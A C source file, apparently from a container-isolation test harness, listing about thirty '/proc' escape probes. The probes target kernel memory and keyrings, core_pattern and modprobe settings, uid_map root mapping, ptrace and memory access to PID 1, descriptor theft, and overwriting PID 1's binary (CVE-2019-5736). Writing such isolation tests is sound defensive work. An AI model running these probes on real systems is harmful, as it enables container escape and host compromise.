/* The kernel's files in /proc, and the tenant's own PID 1 behind them. */
#include "attack.h"

#include <fcntl.h>
#include <dirent.h>
#include <linux/kcmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

/* A masked file opens as the null device, which has nothing to read. */
static _Noreturn void read_kernel_file(const char *path)
{
    char text[512];
    long got = read_some(AT_FDCWD, path, text, sizeof text);
    if (got < 0)
        refused("open %s", path);
    if (got == 0)
        refused_as(ENODATA, "read %s", path);
    escaped("read %ld bytes of %s", got, path);
}

static void kcore(void)
{
    read_kernel_file("/proc/kcore");
}

static _Noreturn void list_directory(const char *path, const char *through_old_root)
{
    DIR *all = opendir(path);
    if (all == NULL && errno == ENOENT)
        all = opendir(through_old_root);
    if (all == NULL)
        refused("open %s", path);
    escaped("listed %s", path);
}

static void debug_files(void)
{
    list_directory("/sys/kernel/debug", "/../sys/kernel/debug");
}

static void trace_files(void)
{
    list_directory("/sys/kernel/tracing", "/../sys/kernel/tracing");
}

static void security_files(void)
{
    list_directory("/sys/kernel/security", "/../sys/kernel/security");
}

static void firmware(void)
{
    list_directory("/sys/firmware", "/../sys/firmware");
}

static void helper_program(void)
{
    int file = open("/sys/kernel/uevent_helper", O_WRONLY);
    if (file < 0 && errno == ENOENT)
        file = open("/../sys/kernel/uevent_helper", O_WRONLY);
    if (file < 0 && errno == ENOENT)
        file = open("/../sys/kernel/profiling", O_WRONLY);
    if (file < 0)
        refused("open a setting in /sys/kernel");
    escaped("opened a setting in /sys/kernel for writing");
}

static void timer_list(void)
{
    read_kernel_file("/proc/timer_list");
}

static void keys(void)
{
    read_kernel_file("/proc/keys");
}

static void interrupts(void)
{
    read_kernel_file("/proc/interrupts");
}

static void kernel_log(void)
{
    int file = (int)must(open("/proc/kmsg", O_RDONLY | O_NONBLOCK), "open /proc/kmsg");
    close(file);
    escaped("opened the kernel's log");
}

/* Writes back what is there, so that success changes nothing. */
static _Noreturn void write_setting(const char *path)
{
    char text[512] = "";
    if (read_some(AT_FDCWD, path, text, sizeof text) < 0)
        refused("read %s", path);
    write_to(path, text);
    escaped("wrote %s", path);
}

static void core_pattern(void)
{
    write_setting("/proc/sys/kernel/core_pattern");
}

static void modprobe(void)
{
    write_setting("/proc/sys/kernel/modprobe");
}

static void overcommit(void)
{
    write_setting("/proc/sys/vm/overcommit_memory");
}

static void user_limit(void)
{
    write_to("/proc/sys/user/max_user_namespaces", "100");
    escaped("raised the number of user namespaces");
}

static void sysrq(void)
{
    write_to("/proc/sysrq-trigger", "h");
    escaped("the kernel printed its help of SysRq");
}

static void interrupt_affinity(void)
{
    char path[300] = "";
    DIR *all = opendir("/proc/irq");
    if (all == NULL)
        refused("open /proc/irq");
    for (struct dirent *entry = readdir(all); entry != NULL && path[0] == '\0'; entry = readdir(all))
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
            snprintf(path, sizeof path, "/proc/irq/%s/smp_affinity", entry->d_name);
    if (path[0] == '\0')
        not_applicable("there are no interrupts in /proc/irq");
    int file = open(path, O_WRONLY);
    if (file < 0)
        refused("open smp_affinity");
    escaped("opened an interrupt's affinity for writing");
}

static void pci_configuration(void)
{
    int file = open("/proc/bus/pci/00/00.0", O_WRONLY);
    if (file < 0)
        refused("open /proc/bus/pci/00/00.0");
    escaped("opened a device's PCI configuration for writing");
}

static void init_environment(void)
{
    read_kernel_file("/proc/1/environ");
}

static void init_root(void)
{
    int directory = (int)must(open("/proc/1/root", O_RDONLY | O_DIRECTORY), "open /proc/1/root");
    try_secret(directory, HOST_SECRET);
    escaped("entered PID 1's root");
}

static void init_descriptors(void)
{
    DIR *all = opendir("/proc/1/fd");
    if (all == NULL)
        refused("open /proc/1/fd");
    escaped("listed PID 1's descriptors");
}

/* CVE-2019-5736: the program that entered the container is overwritten through /proc/PID/exe. */
static void init_program(void)
{
    int file = (int)must(open("/proc/1/exe", O_RDONLY), "open /proc/1/exe");
    char path[32];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    int writable = (int)must(open(path, O_WRONLY), "open PID 1's program for writing");
    must(write(writable, "x", 1), "write PID 1's program");
    escaped("overwrote PID 1's program");
}

static void init_memory(void)
{
    must(open("/proc/1/mem", O_RDWR), "open /proc/1/mem");
    escaped("opened PID 1's memory for writing");
}

static void trace_init(void)
{
    must(ptrace(PTRACE_SEIZE, 1, NULL, NULL), "ptrace PID 1");
    escaped("traces PID 1");
}

static void read_init(void)
{
    char byte;
    /* tenant-init is linked at a fixed address; what matters is whether the kernel looks. */
    struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
    must(process_vm_readv(1, &here, 1, &there, 1, 0), "process_vm_readv PID 1");
    escaped("read PID 1's memory");
}

static void take_descriptor(void)
{
    int process = (int)must(syscall(SYS_pidfd_open, 1, 0), "pidfd_open");
    for (int number = 0; number < 64; number++)
        if (syscall(SYS_pidfd_getfd, process, number, 0) >= 0)
            escaped("took descriptor %d of PID 1", number);
        else if (errno != EBADF)
            break;
    refused("pidfd_getfd of PID 1");
}

static void compare_descriptors(void)
{
    must(syscall(SYS_kcmp, 1, getpid(), KCMP_VM, 0, 0), "kcmp with PID 1");
    escaped("compared itself with PID 1");
}

static char state_of(int process)
{
    char path[32], text[256];
    snprintf(path, sizeof path, "/proc/%d/stat", process);
    if (read_some(AT_FDCWD, path, text, sizeof text) <= 0)
        refused("read %s", path);
    const char *end = strrchr(text, ')');
    return end != NULL && end[1] == ' ' ? end[2] : '?';
}

/* The tenant's first process is the parent of the payload, which is the parent of this one. A command that has entered
 * has no parent in the tenant. */
static void stop_init(void)
{
    char path[32], text[256];
    int first = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", getppid());
    if (read_some(AT_FDCWD, path, text, sizeof text) > 0 && strrchr(text, ')') != NULL)
        first = atoi(strrchr(text, ')') + 4);
    if (first == 0)
        first = 1;
    must(kill(first, SIGSTOP), "kill PID 1 with SIGSTOP");
    usleep(200000);
    char state = state_of(first);
    kill(first, SIGCONT);
    if (state == 'T')
        escaped("stopped the tenant's first process");
    refused_as(EPERM, "SIGSTOP is ignored by PID 1");
}

static void score(void)
{
    write_to("/proc/self/oom_score_adj", "-500");
    escaped("others die first when memory is short");
}

/* CVE-2019-19921 and its like: a file of one's own process in /proc that is another's. */
static void own_map(void)
{
    write_to("/proc/self/uid_map", "0 0 1\n");
    escaped("mapped the host's root");
}

const struct attack proc_attacks[] = {
    {"kcore", kcore},
    {"timer-list", timer_list},
    {"keys-file", keys},
    {"interrupts", interrupts},
    {"debug-files", debug_files},
    {"trace-files", trace_files},
    {"security-files", security_files},
    {"firmware", firmware},
    {"kernel-settings", helper_program},
    {"kernel-log-file", kernel_log},
    {"core-pattern", core_pattern},
    {"modprobe-path", modprobe},
    {"vm-setting", overcommit},
    {"user-namespace-limit", user_limit},
    {"sysrq", sysrq},
    {"interrupt-affinity", interrupt_affinity},
    {"pci-configuration", pci_configuration},
    {"init-environment", init_environment},
    {"init-root", init_root},
    {"init-descriptors", init_descriptors},
    {"init-program", init_program},
    {"init-memory", init_memory},
    {"trace-init", trace_init},
    {"read-init", read_init},
    {"take-descriptor", take_descriptor},
    {"compare-with-init", compare_descriptors},
    {"stop-init", stop_init},
    {"oom-score", score},
    {"own-id-map", own_map},
    {NULL, NULL},
};
